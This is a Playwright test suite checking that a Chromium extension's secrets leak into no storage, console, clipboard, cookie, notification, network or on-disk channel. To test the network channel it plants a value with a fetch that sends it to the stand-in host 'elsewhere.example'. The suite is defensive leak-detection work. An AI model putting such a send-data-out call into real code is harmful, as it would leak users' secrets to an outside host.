import path from 'node:path';
import { type CDPSession, expect, type Page, test } from '@playwright/test';
import { mintSecret } from '../../dev-server/secret';
import { launchWithExtension, readClipboard, type Session } from '../../scripts/launch';
import { signIn } from '../../scripts/sign-in';
import { endWorker } from '../e2e/worker';
import { findSecret } from '../leak-scan';
import { type Channel, pageChannels } from './channels';
import {
  diagnosticsOf,
  exportsOf,
  goOn,
  leaksIn,
  networkOf,
  type Person,
  plantEverywhere,
  secretsOf,
  useSecret,
} from './leaks';
import { openPlace, type Place } from './place';

const HERE = 'https://dev.azure.com/fabrikam';

let place: Place;

test.beforeEach(async () => {
  place = await openPlace();
});

test.afterEach(() => place.close());

async function launch() {
  return await launchWithExtension({
    extension: 'dist/chrome',
    port: place.port,
    headless: true,
    everywhere: true,
    ...place.home,
  });
}

/** In the worker: writes down what the extension has the browser show as notifications, whose words nothing can ask for. */
const HEAR_NOTIFICATIONS = `
  globalThis.told = [];
  const { create } = chrome.notifications;
  chrome.notifications.create = (...given) => (told.push(given), create(...given));`;
const NOTIFICATIONS = 'JSON.stringify(globalThis.told ?? [])';
const NOTIFY = (message: string) =>
  `chrome.notifications.create('leak', { type: 'basic', iconUrl: '/icons/128.png', title: 'x', message: ${JSON.stringify(message)} })`;

function personAt(session: Session, page: Page, told: string[]): Person {
  const found = async (name: string) => {
    const dialog = page.locator('dialog[open]');
    const within = (await dialog.count()) > 0 ? dialog : page.locator('body');
    const roles = ['button', 'menuitem', 'link'] as const;
    return roles
      .map((role) => within.getByRole(role, { name, exact: true }))
      .reduce((all, each) => all.or(each))
      .first();
  };
  const downloads = path.join(place.folder, 'downloads');
  page.on('download', (download) => void download.saveAs(path.join(downloads, download.suggestedFilename())));
  return {
    evaluate: (script, ...given) => page.evaluate(`(async (...given) => { ${script} })(...${JSON.stringify(given)})`),
    end: async () => {
      told.push(await session.worker.evaluate(NOTIFICATIONS)); // they end with it
      return await endWorker(session);
    },
    goto: async (address) => {
      await page.goto('about:blank');
      await page.goto(`chrome-extension://${session.extensionId}/src/${address}`);
    },
    press: async (name) => (await found(name)).click(),
    tick: (name) => page.getByRole('checkbox', { name, exact: true }).check(),
    fill: (name, text) => page.getByRole('textbox', { name, exact: true }).fill(text),
    choose: (name, option) => page.getByRole('combobox', { name, exact: true }).selectOption(option),
    downloads,
  };
}

function accessibility(page: Page, devTools: CDPSession): Channel {
  return {
    name: 'accessibility tree',
    read: async () => JSON.stringify(await devTools.send('Accessibility.getFullAXTree')),
    plant: (text) => page.evaluate((label) => document.body.setAttribute('aria-label', label), text),
  };
}

async function openFor(session: Session) {
  const printed: string[] = [];
  session.context.on('console', (message) => printed.push(message.text()));
  session.worker.on('console', (message) => printed.push(message.text()));
  const told: string[] = [];
  await session.worker.evaluate(HEAR_NOTIFICATIONS);
  await signIn(session.context, 'fabrikam');
  const page = await session.context.newPage();
  const person = personAt(session, page, told);
  await person.goto('popup/index.html');
  const onScreen = [
    ...pageChannels(person).filter(({ name }) => name === 'DOM'),
    accessibility(page, await session.context.newCDPSession(page)),
  ];
  const others: Channel[] = [
    exportsOf(person),
    diagnosticsOf(person),
    ...pageChannels(person).filter(({ name }) => name !== 'DOM'),
    {
      name: 'cookies',
      read: async () => JSON.stringify(await session.context.cookies()),
      plant: (value) => session.context.addCookies([{ name: 'leak', value, url: HERE }]),
    },
    networkOf(place.heard, (text) =>
      session.worker.evaluate((leak) => fetch(`https://elsewhere.example/?${leak}`).catch(() => undefined), text),
    ),
    {
      name: 'console of a page',
      read: async () => printed.join('\n'),
      plant: (text) => page.evaluate((leak) => console.log(leak), text),
    },
    {
      name: 'console of the worker',
      read: async () => printed.join('\n'),
      plant: (text) => session.worker.evaluate((leak) => console.warn({ leak }, leak), text),
    },
    {
      name: 'titles and addresses',
      read: async () =>
        (await Promise.all(session.context.pages().map(async (each) => `${each.url()} ${await each.title()}`))).join(
          '\n',
        ),
      plant: (text) => page.evaluate((leak) => history.replaceState(null, '', `#${leak}`), text),
    },
    {
      name: 'notifications',
      read: async () => [...told, await session.worker.evaluate(NOTIFICATIONS)].join('\n'),
      plant: (text) => session.worker.evaluate(NOTIFY(text)),
    },
    {
      name: 'clipboard',
      read: () => readClipboard(session.context, HERE),
      plant: (text) => page.evaluate((leak) => navigator.clipboard.writeText(leak), text),
    },
  ];
  return { person, page, onScreen, others, told };
}

test('Chromium: a secret is nowhere but where it belongs, and a planted one is found everywhere', async () => {
  const session = await launch();
  const { person, page, onScreen, others, told } = await openFor(session);
  await useSecret(person, place.server, onScreen);
  const lasting = others.filter(({ name }) => !['storage.session', 'clipboard'].includes(name));
  expect(await leaksIn(lasting, secretsOf(place.server)), 'while it waits to be taken').toEqual([]);
  expect(told.join(), 'notifications are heard').toContain('fabrikam');
  await session.worker.evaluate(HEAR_NOTIFICATIONS);
  await goOn(person, place.server);
  const all = [...onScreen, ...others];
  expect(await leaksIn(all, secretsOf(place.server)), 'when everything is done').toEqual([]);
  const planted = await plantEverywhere([...onScreen, ...others]);
  const inHistory = mintSecret(Date.now());
  await page.goto(`${HERE}?${inHistory}`);
  await session.close();
  for (const secret of secretsOf(place.server))
    expect(findSecret(place.folder, secret), 'after it was closed').toEqual([]);
  for (const name of ['storage.local', 'IndexedDB', 'Cache Storage', 'localStorage'])
    expect(findSecret(place.folder, planted.get(name) ?? ''), `${name} on the disk`).not.toEqual([]);
  expect(findSecret(place.folder, inHistory).join(' '), 'the history on the disk').toContain('History');
});

test('Chromium: nor after the browser was killed while a secret waits to be taken', async () => {
  const session = await launch();
  const { person, onScreen } = await openFor(session);
  await useSecret(person, place.server, onScreen);
  const leak = mintSecret(Date.now());
  await person.evaluate('await chrome.storage.local.set({ leak: given[0] })', leak);
  await expect.poll(() => findSecret(place.folder, leak), 'a planted one is on the disk').not.toEqual([]);
  const browser = await session.context.browser()?.newBrowserCDPSession();
  const { processInfo = [] } = (await browser?.send('SystemInfo.getProcessInfo')) ?? {};
  process.kill(processInfo.find(({ type }) => type === 'browser')?.id ?? Number.NaN, 'SIGKILL');
  await session.closed;
  for (const secret of secretsOf(place.server)) expect(findSecret(place.folder, secret)).toEqual([]);
});
